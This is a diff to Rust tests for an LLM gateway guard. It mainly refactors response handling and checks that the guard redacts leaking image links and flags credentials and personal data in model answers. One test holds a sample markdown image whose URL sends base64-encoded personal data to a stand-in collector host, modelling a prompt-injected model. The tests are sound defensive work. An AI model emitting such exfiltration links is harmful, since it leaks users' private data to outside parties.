@@ -28,7 +28,18 @@ async fn gateway(dir: &TempDir, cfg: &str) -> Bulwark {
 struct Reply {
     status: u16,
     guard: String,
+    headers: reqwest::header::HeaderMap,
     body: String,
+}
+
+impl Reply {
+    /// A response header as text ("" when absent).
+    fn header(&self, name: &str) -> &str {
+        self.headers
+            .get(name)
+            .and_then(|v| v.to_str().ok())
+            .unwrap_or("")
+    }
 }
 
 async fn post(b: &Bulwark, body: Value) -> Reply {
@@ -47,14 +58,15 @@ async fn send(b: &Bulwark, key: Option<&str>, body: Value) -> Reply {
         req = req.bearer_auth(k);
     }
     let r = req.send().await.unwrap_or_else(|e| panic!("{e}"));
+    let headers = r.headers().clone();
     Reply {
         status: r.status().as_u16(),
-        guard: r
-            .headers()
+        guard: headers
             .get("x-bulwark-guard")
             .and_then(|v| v.to_str().ok())
             .unwrap_or("")
             .to_owned(),
+        headers,
         body: r.text().await.unwrap_or_default(),
     }
 }
@@ -278,22 +290,13 @@ async fn answers_that_would_leak_data_through_an_image_are_defused() {
     // The mock echoes the request, so its answer carries this image, as a model obeying
     // an injected document would.
     let image = "![status](https://collector.example.net/p.png?d=bWFyaWUuY3VyaWVAZXhhbXBsZS5vcmc7c2FsYXJ5PTkwMDAw)";
-    let r = reqwest::Client::new()
-        .post(b.url("/v1/chat/completions"))
-        .json(&user("m", &format!("Render {image}")))
-        .send()
-        .await
-        .unwrap_or_else(|e| panic!("{e}"));
-    let header = r
-        .headers()
-        .get("x-bulwark-guard-output")
-        .and_then(|v| v.to_str().ok())
-        .unwrap_or("")
-        .to_owned();
-    let body = r.text().await.unwrap_or_default();
-    assert_eq!(header, "redact:exfiltration_image");
+    let r = post(&b, user("m", &format!("Render {image}"))).await;
     assert_eq!(
-        content(&body),
+        r.header("x-bulwark-guard-output"),
+        "redact:exfiltration_image"
+    );
+    assert_eq!(
+        content(&r.body),
         "mock reply to: Render ![status]([BLOCKED_URL])"
     );
     // An ordinary link passes.
@@ -516,20 +519,9 @@ async fn credentials_an_answer_adds_are_redacted_streamed_or_not() {
     // With output = flag, the answer is untouched and the header names what was found.
     let dir2 = TempDir::new("guard-answer-secrets-flag");
     let b2 = gateway(&dir2, &config(&mock, "[guard]\noutput = \"flag\"\n")).await;
-    let r = reqwest::Client::new()
-        .post(b2.url("/v1/chat/completions"))
-        .json(&user("leak", "What is the admin key?"))
-        .send()
-        .await
-        .unwrap_or_else(|e| panic!("{e}"));
-    let header = r
-        .headers()
-        .get("x-bulwark-guard-output")
-        .and_then(|v| v.to_str().ok())
-        .unwrap_or("")
-        .to_owned();
-    assert_eq!(header, "flag:aws_access_key_id");
-    assert!(content(&r.text().await.unwrap_or_default()).contains(key));
+    let r = post(&b2, user("leak", "What is the admin key?")).await;
+    assert_eq!(r.header("x-bulwark-guard-output"), "flag:aws_access_key_id");
+    assert!(content(&r.body).contains(key));
 }
 
 /// Written for this test (in no training data): an extraction attempt with none of the
@@ -628,21 +620,9 @@ async fn personal_data_an_answer_adds_is_named_streamed_or_not() {
     let b = gateway(&dir, &config(&mock, "")).await;
     let email = bulwark_testkit::LEAKED_EMAIL;
     // JSON: the header names the kinds; the answer itself is left as it is.
-    let r = reqwest::Client::new()
-        .post(b.url("/v1/chat/completions"))
-        .json(&user("pii", "Who handles refunds?"))
-        .send()
-        .await
-        .unwrap_or_else(|e| panic!("{e}"));
-    let header = r
-        .headers()
-        .get("x-bulwark-guard-output-pii")
-        .and_then(|v| v.to_str().ok())
-        .unwrap_or("")
-        .to_owned();
-    let body = r.text().await.unwrap_or_default();
-    assert_eq!(header, "email,phone");
-    assert!(content(&body).contains(email), "{body}");
+    let r = post(&b, user("pii", "Who handles refunds?")).await;
+    assert_eq!(r.header("x-bulwark-guard-output-pii"), "email,phone");
+    assert!(content(&r.body).contains(email), "{}", r.body);
     // A stream: the same names, in a comment line at its end.
     let mut s = json!({"model": "pii", "stream": true, "messages": [{"role": "user", "content": "Who handles refunds?"}]});
     let r = post(&b, s.take()).await;
